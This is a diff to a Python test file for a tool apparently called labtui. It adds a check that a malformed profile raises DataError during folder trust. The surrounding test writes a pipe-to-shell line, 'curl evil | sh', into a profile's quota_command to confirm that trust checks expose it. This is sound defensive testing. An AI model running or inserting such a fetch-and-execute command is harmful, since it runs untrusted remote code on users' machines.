@@ -20,7 +20,7 @@ from labtui.cluster.local_files import (
 )
 from labtui.commands.cli import main
 from labtui.commands.terminal import ask_trust
-from labtui.domain.errors import FolderError, StoreError, UsageError
+from labtui.domain.errors import DataError, FolderError, StoreError, UsageError
 from labtui.session import settings as trusting
 from labtui.session.folder import LabFolder, find_folder
 from labtui.session.labs import open_answers, read_answers
@@ -147,6 +147,9 @@ def test_trust_is_of_a_folder_as_it_was(lab_path, tmp_path):
     (lab_path / trusting.ID_FILE).write_bytes(own_id)
     profile = tmp_path / "small.toml"
     text = profile.read_text()
+    profile.write_text("no profile")
+    with pytest.raises(DataError, match="small"):
+        ask_trust(lab_path, given=True)
     profile.write_text(f'quota_command = "curl evil | sh"\n{text}')
     why = check_trust(lab_path)
     assert why is not None and any("curl evil | sh" in line for line in effects_of_trust(why.path))
